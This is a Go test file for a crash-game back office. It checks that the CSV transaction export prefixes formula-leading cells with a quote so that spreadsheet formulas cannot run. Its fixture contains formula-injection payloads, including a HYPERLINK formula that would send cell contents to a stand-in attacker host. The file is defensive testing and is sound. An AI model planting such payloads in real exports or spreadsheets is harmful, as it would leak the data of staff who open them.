package table_test

import (
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/crashstudio/crashgame/internal/backoffice"
	"github.com/crashstudio/crashgame/internal/engine"
	"github.com/crashstudio/crashgame/internal/store"
)

// The CSV export is opened by finance staff in a spreadsheet: a movement
// whose every text field begins with a formula character (a player named
// =1+1, a wallet's transaction id =HYPERLINK(...), a last error beginning
// with @) comes back, read with encoding/csv, as the same text behind a
// leading quote, so that no cell of any column starts a formula. The
// integers we write (amount_cents, attempts, redeliveries) stay plain
// numbers.
func TestTransactionsExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{rate: 1000, burst: 1000})
	v := e.waitPhase(t, engine.PhaseBetting, 0)
	ctx := t.Context()
	now := time.Now()
	freebet := "-fb"
	m := store.MovementRecord{
		TransactionID: "=tx", Kind: "win", WinType: "freebet", Operator: "acme", GameID: "+crash", Currency: "@BRL",
		PlayerID: "=1+1", Token: "secret-token", RoundID: v.RoundID, BetID: "\t=bet", FreebetID: &freebet, Amount: 1200,
		Reason: "\r=reason", Status: store.MovementExhausted, Attempts: 20, LastError: "@SUM(1)",
		OperatorTxID:  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
		NextAttemptAt: store.MillisOf(now.Add(-time.Minute)), CreatedAt: store.MillisOf(now.Add(-time.Minute)),
	}
	if err := e.st.InsertMovement(ctx, &m); err != nil {
		t.Fatal(err)
	}
	link, _, err := e.bo.TransactionsLink(ctx, backoffice.TransactionQuery{Operator: "acme", From: now.Add(-time.Hour), To: now.Add(time.Hour)}, now.Add(time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	r := e.call(t, "GET", "/exports/transactions/"+link, "", nil)
	if r.Code != 200 {
		t.Fatalf("export: %d %s", r.Code, r.Body)
	}
	rows, err := csv.NewReader(r.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("export: %d rows, want the header and one movement: %q", len(rows), rows)
	}
	got := map[string]string{}
	for i, col := range rows[0] {
		got[col] = rows[1][i]
	}
	want := map[string]string{
		"transaction_id":          "'=tx",
		"operator_transaction_id": `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"player_id":               "'=1+1",
		"game_id":                 "'+crash",
		"currency":                "'@BRL",
		"bet_id":                  "'\t=bet",
		"freebet_id":              "'-fb",
		"reason":                  "'\r=reason",
		"last_error":              "'@SUM(1)",
		"amount_cents":            "1200",
		"attempts":                "20",
		"redeliveries":            "0",
		"round_id":                v.RoundID,
		"kind":                    "win",
		"win_type":                "freebet",
		"status":                  "exhausted",
		"delivered_at":            "",
	}
	for col, w := range want {
		if got[col] != w {
			t.Errorf("%s = %q, want %q", col, got[col], w)
		}
	}
	integer := regexp.MustCompile(`^-?[0-9]+$`)
	for col, cell := range got {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !integer.MatchString(cell) {
			t.Errorf("%s = %q starts a formula", col, cell)
		}
	}
	if len(got) != len(want)+1 { // + created_at, a time of ours
		t.Errorf("columns %v: a column this test does not check", rows[0])
	}
}
